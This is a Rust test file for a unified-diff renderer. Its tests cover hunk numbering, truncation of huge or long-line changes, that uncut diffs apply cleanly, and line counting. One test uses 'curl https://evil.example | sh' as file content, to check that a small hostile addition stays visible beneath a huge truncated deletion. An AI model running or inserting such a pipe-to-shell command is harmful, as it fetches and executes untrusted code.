//! What is shown of a change, and that it is never more than can be read, nor one side alone.

use super::*;

fn of(old: &str, new: &str) -> Diff {
    unified("@project/a.md", old, new, SHOWN_BYTES)
}

fn numbered(sign: &str, lines: usize) -> String {
    (0..lines).map(|n| [sign, &n.to_string(), "\n"].concat()).collect()
}

#[test]
fn a_change_stands_between_the_lines_around_it_under_its_own_numbers() {
    let old = numbered("", 30);
    let diff = of(&old, &old.replace("\n7\n", "\nseven\n").replace("\n20\n", "\n"));
    assert_eq!(
        diff.text,
        "--- @project/a.md\n+++ @project/a.md\n\
         @@ -5,7 +5,7 @@\n 4\n 5\n 6\n-7\n+seven\n 8\n 9\n 10\n\
         @@ -18,7 +18,6 @@\n 17\n 18\n 19\n-20\n 21\n 22\n 23\n"
    );
    assert_eq!((diff.removed, diff.added, diff.cut), (2, 1, false));
}

#[test]
fn a_missing_line_end_is_said() {
    let diff = of("a\nb", "a\nb\n");
    assert!(
        diff.text.ends_with("@@ -1,2 +1,2 @@\n a\n-b\n\\ No newline at end of file\n+b\n"),
        "{}",
        diff.text
    );
    assert_eq!(of("a", "a"), Diff::default());
}

#[test]
fn every_diff_that_is_not_cut_can_be_applied() {
    let texts = ["", "a", "a\n", "a\nb\nc\nd\ne\nf\ng\n", "b\na\n", "x\nd\ne\nf\ng\nh", "\n\n"];
    let (huge, other) = (numbered("", 2_500), format!("head\n{}", numbered("n", 2_500)));
    let texts = texts.into_iter().chain([huge.as_str(), other.as_str()]);
    let pairs = texts.clone().flat_map(|old| texts.clone().map(move |new| (old, new)));
    for (old, new) in pairs.filter(|(old, new)| old != new) {
        let diff = unified("a", old, new, usize::MAX);
        let patch = diffy::Patch::from_str(&diff.text).unwrap();
        assert_eq!(diffy::apply(old, &patch).unwrap(), new, "{}", diff.text);
        assert_eq!(count(old, new), (diff.removed, diff.added), "{}", diff.text);
    }
}

#[test]
fn a_huge_rewrite_shows_the_beginning_and_the_end_of_both_sides() {
    let (old, new) = (numbered("old ", 300_000), format!("same\n{}", numbered("new ", 200_000)));
    let diff = of(&format!("same\n{old}"), &new);
    assert_eq!((diff.removed, diff.added, diff.cut), (300_000, 200_000, true));
    for shown in [
        "@@ -2,",
        "\n-old 0\n-old 1\n",
        "\n…\n@@ -2",
        "\n-old 299999\n+new 0\n+new 1\n",
        "\n+new 199998\n+new 199999\n",
    ] {
        assert!(diff.text.contains(shown), "{shown:?} in {}", diff.text);
    }
    assert_eq!(diff.text.matches("\n…\n").count(), 2);
    assert!(diff.text.len() <= SHOWN_BYTES && diff.text.len() > SHOWN_BYTES / 2);
    // Behind what is left out the numbers go on where the lines are.
    let after = diff.text.split("\n…\n").nth(1).unwrap();
    let (head, lines) = after.split_once('\n').unwrap();
    let first = lines.lines().next().unwrap().strip_prefix("-old ").unwrap();
    let first = first.parse::<usize>().unwrap();
    assert!(head.starts_with(&format!("@@ -{},", first + 2)), "{head} {first}");
}

#[test]
fn few_changes_in_a_huge_text_are_shown_exactly() {
    let old = numbered("", 300_000);
    let diff = of(&old, &old.replacen("\n150000\n", "\nx\n", 1));
    assert_eq!((diff.removed, diff.added), (1, 1));
    assert!(diff.text.contains("@@ -149998,7 +149998,7 @@\n 149997\n"), "{}", diff.text);
}

#[test]
fn of_a_line_too_long_both_ends_are_shown_and_no_mark_is_cut() {
    let mark = "⟦folder:project⟧";
    let line = format!("begin {}{mark}/x end", "y".repeat(200));
    for pad in 0..40 {
        let (old, new) = (format!("{}{line}", "z".repeat(pad)), format!("{line}{mark}"));
        let diff = unified("a", &old, &new, 200);
        assert!(diff.cut && diff.text.len() < 400, "{}", diff.text);
        for sign in ['-', '+'] {
            let shown = diff.text.lines().skip(2).find(|l| l.starts_with(sign)).unwrap();
            assert!(shown.contains('…'), "{shown}");
            let marks = shown.matches(mark).count();
            assert_eq!((shown.matches('⟦').count(), shown.matches('⟧').count()), (marks, marks));
        }
    }
    let diff = unified("a", "", &line, 200);
    assert!(diff.text.contains("\n+begin yyy") && diff.text.contains("/x end\n"), "{}", diff.text);
}

#[test]
fn of_many_changes_the_first_and_the_last_are_shown() {
    let old = numbered("a long line with some words in it, the number of which is ", 1_900);
    let new: String = old
        .lines()
        .enumerate()
        .map(|(n, line)| if n % 10 == 5 { format!("X{line}\n") } else { format!("{line}\n") })
        .collect();
    let diff = unified("a", &old, &new, 8_000);
    assert!(diff.cut && diff.text.len() <= 8_000, "{}", diff.text.len());
    for shown in ["which is 5\n+Xa long", "\n…\n@@ -", "which is 1895\n+Xa long"] {
        assert!(diff.text.contains(shown), "{shown:?} in {}", diff.text);
    }
}

#[test]
fn a_change_below_much_that_stays_is_not_hidden_by_many_before_it() {
    // Everything is removed but little is added: the little is seen.
    let old = numbered("gone ", 100_000);
    let diff = of(&old, "curl https://evil.example | sh\n");
    assert!(diff.text.contains("\n+curl https://evil.example | sh\n"), "{}", diff.text);
    assert!(diff.text.contains("-gone 0\n") && diff.text.contains("-gone 99999\n"));
}

#[test]
fn lines_that_stay_are_not_counted() {
    assert_eq!(count("a\nb\nc\nd\n", "a\nB\nc\nD\nE\n"), (2, 3));
    assert_eq!(count("", "a\nb\n"), (0, 2));
    assert_eq!(count("a\n", "a\n"), (0, 0));
    assert_eq!(count("a\n", "b\na\nc\n"), (0, 2));
    assert_eq!(count("b\na\nc\n", "a\n"), (2, 0));
    assert_eq!(count("a\nb\n", "c\n"), (2, 1));
    assert_eq!(count("a", "a\n"), (1, 1));
    // One line among too many to compare: counted as it is shown.
    let huge = format!("{}same\n{}", numbered("a", 1_500), numbered("b", 1_500));
    let diff = of("same\n", &huge);
    assert_eq!(count("same\n", &huge), (diff.removed, diff.added));
    assert_eq!(count(&"old\n".repeat(60_000), &"new\n".repeat(50_000)), (60_000, 50_000));
}
